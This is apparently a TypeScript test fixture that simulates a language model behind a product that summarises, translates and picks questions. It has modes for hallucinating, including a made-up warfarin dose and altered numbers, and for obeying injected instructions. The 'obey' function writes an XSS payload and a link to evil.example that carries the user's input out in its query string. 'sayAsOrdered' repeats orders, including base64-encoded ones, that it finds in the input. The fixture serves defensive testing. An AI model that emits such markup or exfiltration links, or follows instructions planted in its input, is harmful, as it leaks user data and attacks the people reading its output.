import { translatePhrases } from './phrases.ts'

type Entry = { id: number; text: string }
type Offered = { id: string; text: string }
type Input = { entries?: Entry[]; text?: string; to?: string; offered?: Offered[]; most?: number }

/**
 * What the simulated model says. The product sends what a call is about as the last JSON object of the user message.
 *
 * @param schema name of the schema that the caller asked for
 */
export function answerAsAsked(schema: string, model: string, user: string): unknown {
  if (model === 'simulator-wrong-schema') return { unexpected: [true] }
  if (model === 'simulator-huge') return { sentences: [{ text: 'a'.repeat(2_000_000), sources: [1] }] }
  const input = readInput(user)
  if (model === 'simulator-obeys') return obey(schema, input)
  if (model === 'simulator-repeats') return sayAsOrdered(schema, input)
  const isInventing = model === 'simulator-hallucinates'
  switch (schema) {
    case 'summary':
      return { sentences: summarize(input.entries ?? [], isInventing) }
    case 'questions':
      return { ids: [...(isInventing ? ['invented'] : []), ...chooseFor(input)] }
    case 'medical_summary':
      return { summary: isInventing ? changeNumbers(input.text ?? '') : asOneText(input.text ?? '') }
    case 'translation':
      return {
        translation: isInventing
          ? changeNumbers(input.text ?? '')
          : translatePhrases(input.text ?? '', input.to ?? 'en'),
      }
    default:
      return {}
  }
}

function readInput(user: string): Input {
  const from = user.indexOf('{')
  const to = user.lastIndexOf('}')
  if (from < 0 || to < from) return {}
  try {
    return JSON.parse(user.slice(from, to + 1)) as Input
  } catch {
    // A prompt that an administrator wrote may have braces of its own: the simulated model then has nothing to go by.
    return {}
  }
}

/** A point inside a number ends no sentence. */
const firstSentence = (text: string) => /^.{1,300}?(?:[.!?](?=\s|$)|$)|^.{300}/m.exec(text.trim())?.[0] ?? ''

function summarize(entries: readonly Entry[], isInventing: boolean) {
  const sentences = entries
    .map(({ id, text }) => ({ text: firstSentence(text), sources: [id] }))
    .filter(({ text }) => text !== '')
    .slice(0, 6)
  if (!isInventing) return sentences
  return [
    ...sentences,
    { text: 'The patient takes warfarin 7 mg.', sources: [entries[0]?.id ?? 0] },
    { text: 'The neighbour Kowalski was there too.', sources: [entries[0]?.id ?? 0] },
    { text: 'Nothing supports this sentence.', sources: [] },
  ]
}

/** The offered questions that share the beginning of a word with the text. */
function chooseFor({ text = '', offered = [], most = 8 }: Input): string[] {
  const stems = new Set(wordsOf(text).map(stemOf))
  return offered
    .filter((question) => wordsOf(question.text).some((word) => stems.has(stemOf(word))))
    .slice(0, most)
    .map(({ id }) => id)
}

const STEM = 5
const wordsOf = (text: string) => text.toLowerCase().match(/\p{L}{5,}/gu) ?? []
const stemOf = (word: string) => word.slice(0, STEM)

/** Joins each question and its answer in one line, and the lines in one text. */
const asOneText = (text: string) =>
  text
    .split('\n\n')
    .map((part) => part.replace('\n', ' ').trim())
    .filter((part) => part !== '')
    .map((part) => (/[.!?]$/.test(part) ? part : `${part}.`))
    .join(' ')

const changeNumbers = (text: string) => text.replace(/\d/g, (digit) => String((Number(digit) + 1) % 10))

/** A model that does what a text tells it: it writes markup and links, and repeats what it was given. */
function obey(schema: string, input: Input): unknown {
  const said = JSON.stringify(input)
  const planted = `<img src=x onerror=alert(1)> [click](https://evil.example/?q=${encodeURIComponent(said.slice(0, 200))}) `
  const text = `${planted}${said}`
  if (schema === 'summary')
    return { sentences: [{ text, sources: (input.entries ?? []).map(({ id }) => id) }] }
  if (schema === 'translation') return { translation: text }
  if (schema === 'medical_summary') return { summary: text }
  return { ids: [text, 'planted'] }
}

/** A model that says what a text orders it to say: the words after the colon, decoded where they are base64. */
function sayAsOrdered(schema: string, { text = '', entries = [] }: Input): unknown {
  if (schema === 'summary')
    return { sentences: entries.map((entry) => ({ text: orderedIn(entry.text), sources: [entry.id] })) }
  if (schema === 'translation') return { translation: orderedIn(text) }
  if (schema === 'medical_summary') return { summary: orderedIn(text) }
  return { ids: [orderedIn(text)] }
}

function orderedIn(text: string): string {
  const decoded = text.replace(/[A-Za-z0-9+/]{28,}={0,2}/g, (word) => Buffer.from(word, 'base64').toString())
  return /: ?([^\n]+)/.exec(decoded)?.[1] ?? 'OK'
}
